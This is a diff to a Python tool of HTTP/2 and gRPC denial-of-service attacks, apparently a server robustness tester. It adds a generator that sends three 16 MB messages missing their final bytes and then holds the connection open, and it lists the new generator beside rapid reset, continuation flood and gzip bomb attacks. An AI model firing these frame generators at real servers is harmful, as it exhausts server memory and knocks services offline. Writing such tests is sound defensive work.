@@ -132,6 +132,19 @@ def endless_message() -> Iterator[bytes]:
                  + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 2_000_000_000)))
 
 
+def messages_without_their_end() -> Iterator[bytes]:
+    """As many messages of the largest size at once as may be, all but their last bytes."""
+    size, streams = 16 << 20, range(1, 7, 2)
+    start = b"\0" + struct.pack(">I", size)
+    yield ACKNOWLEDGED + b"".join(
+        frame(HEADERS, END_HEADERS, stream, call_headers(METHOD)) + frame(DATA, 0, stream, start) for stream in streams)
+    time.sleep(0.5)   # the server grants their windows
+    piece = bytes(MAX_FRAME)
+    for _ in range(size // MAX_FRAME - 1):
+        yield b"".join(frame(DATA, 0, stream, piece) for stream in streams)
+    time.sleep(60)   # the connection stays open
+
+
 def gzip_bomb() -> Iterator[bytes]:
     """Calls with messages of 4 MB that unpack to 4 GB of zeros."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
@@ -221,8 +234,9 @@ FLOODS = {
 ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
     attack.__name__.replace("_", " "): attack for attack in (
         continuation_flood, rapid_reset, endless_string, call_flood, acknowledged_call_flood, request_flood, old_stream,
-        old_stream_with_long_headers, even_streams, endless_message, gzip_bomb, prefix_byte_by_byte, empty_messages, indexed_headers,
-        headers_of_many_fields, headers_in_many_frames, names_of_literals, no_method, trailers_again)} | FLOODS
+        old_stream_with_long_headers, even_streams, endless_message, messages_without_their_end, gzip_bomb, prefix_byte_by_byte,
+        empty_messages, indexed_headers, headers_of_many_fields, headers_in_many_frames, names_of_literals, no_method,
+        trailers_again)} | FLOODS
 
 
 def connect(port: int, tls: bool) -> socket.socket:
